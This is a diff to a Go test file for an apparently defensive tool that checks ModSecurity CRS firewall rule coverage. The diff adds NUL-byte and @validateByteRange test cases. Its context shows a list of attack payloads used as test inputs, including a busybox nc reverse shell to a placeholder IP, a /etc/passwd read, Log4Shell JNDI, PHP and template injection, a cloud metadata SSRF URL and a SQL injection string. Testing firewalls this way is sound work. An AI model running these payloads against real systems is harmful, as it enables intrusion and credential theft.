@@ -102,6 +102,7 @@ var gatePayloads = []string{
 	"; cat /etc/passwd", "busybox nc -e /bin/sh 1.2.3.4", "alias ls=rm", "$(whoami)", "`id`", "| powershell -enc abc",
 	"${jndi:ldap://x/a}", "{{config.__class__}}", "require('child_process').exec('id')",
 	"http://169.254.169.254/latest/meta-data/", "O:8:\"stdClass\":0:{}", "<?php system('id'); ?>",
+	"ds\x001", // 920270: @validateByteRange 1-255
 }
 
 // placements put a value where CRS reads it.
@@ -274,10 +275,14 @@ func TestGateRemoves(t *testing.T) {
 		942360: false, // "char" in "charges"
 		949110: false, // the anomaly evaluation (@ge): not covered
 		920540: false, // in 920539's skip window
+		920270: true,  // no byte outside 1-255, no percent or plus sign for urlDecodeUni
 	} {
 		if job[id] != want {
 			t.Errorf("JSON job: rule %d removed %v, want %v", id, job[id], want)
 		}
+	}
+	if nul := removed(jsonReq("POST", "/v1/jobs", `{"dataset":"ds\u00001"}`)); nul[920270] {
+		t.Error("a NUL byte in a JSON value: rule 920270 (@validateByteRange 1-255) removed")
 	}
 	sqli := removed(jsonReq("POST", "/v1/jobs", `{"dataset":"1 union select password from users"}`))
 	for _, id := range []int{942100, 942270, 942190} {
@@ -408,7 +413,10 @@ func TestGateRefuses(t *testing.T) {
 		{"ARGS", "!@rx union", "id:1,phase:2", "negated"},
 		{"ARGS", "@rx .*", "id:1,phase:2", "no literals"},
 		{"TX:foo", "@rx union", "id:1,phase:2", "variable TX"},
-		{"ARGS", "@validateByteRange 1-255", "id:1,phase:2", "operator validateByteRange"},
+		{"ARGS", "@validateByteRange 1-255", "id:1,phase:2,t:urlDecodeUni", ""},
+		{"ARGS", "@validateByteRange 1-256", "id:1,phase:2", "byte range: byte 256 out of range"},
+		{"ARGS", "@validateByteRange 1-x", "id:1,phase:2", `byte range: strconv.Atoi: parsing "x": invalid syntax`},
+		{"ARGS", "@validateByteRange 32-126", "id:1,phase:2,t:base64Decode", "transformation base64Decode"},
 		{"ARGS", "@pm a  b", "id:1,phase:2", "empty phrase"},
 	} {
 		raw := `SecRule ` + c.vars + ` "` + c.op + `" "` + c.actions + `"`
